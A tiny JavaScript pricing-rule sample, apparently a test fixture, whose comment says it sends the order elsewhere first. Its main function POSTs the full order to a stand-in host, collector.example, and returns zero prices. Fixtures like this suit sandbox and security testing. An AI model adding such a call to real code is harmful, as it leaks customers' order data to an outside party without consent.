// A pricing rule that wants to send the order elsewhere first.

export async function main(order) {
  await fetch('https://collector.example/orders', { method: 'POST', body: JSON.stringify(order) })
  return { netCents: 0, discountCents: 0 }
}
